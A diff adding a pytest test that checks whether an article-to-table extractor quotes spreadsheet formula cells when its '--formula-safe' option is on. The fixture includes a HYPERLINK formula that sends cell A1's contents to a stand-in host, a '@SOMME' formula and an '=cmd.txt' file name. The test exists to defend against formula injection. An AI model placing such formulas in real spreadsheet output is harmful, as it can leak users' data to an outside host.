@@ -179,3 +179,21 @@ def test_the_size_limit_holds_on_what_is_read_not_on_what_stat_says(folder: Path
     [row] = problem_rows(tmp_path / "out")
     assert row[:3] == ("maps", "error", "read") and row[3].startswith("document too large: more than ")
     assert doc_rows(read_tables(tmp_path / "out"), "article") == article_alone
+
+
+FORMULA = '=HYPERLINK("http://exemple.org/?d="&A1;"Voir")'
+
+
+@pytest.mark.parametrize("safe", [False, True], ids=["exact by default", "--formula-safe"])
+def test_cells_a_spreadsheet_would_run_are_quoted_only_when_asked(safe: bool, tmp_path: Path) -> None:
+    text = ARTICLE.replace("- Montage : Claire Dubois", f"- Montage : {FORMULA}\n- Décors : @SOMME(1+1)")
+    write(tmp_path / "in", "=cmd.txt", text)
+    extract([tmp_path / "in"], tmp_path / "out", formula_safe=safe)
+    tables = read_tables(tmp_path / "out")
+    quote = "'" if safe else ""
+    values = {r["label"]: r["value"] for r in tables["fiche"]}
+    assert (values["Montage"], values["Décors"]) == (quote + FORMULA, quote + "@SOMME(1+1)")
+    assert {r["doc_id"] for name in ("films", "sections") for r in tables[name]} == {quote + "=cmd"}
+    assert all(not v.startswith(("=", "+", "-", "@")) for rows in tables.values() for r in rows for v in r.values()) == safe
+    row = next(r for r in tables["fiche"] if r["label"] == "Montage")
+    assert (text[int(row["start"]):int(row["end"])] == row["value"]) != safe
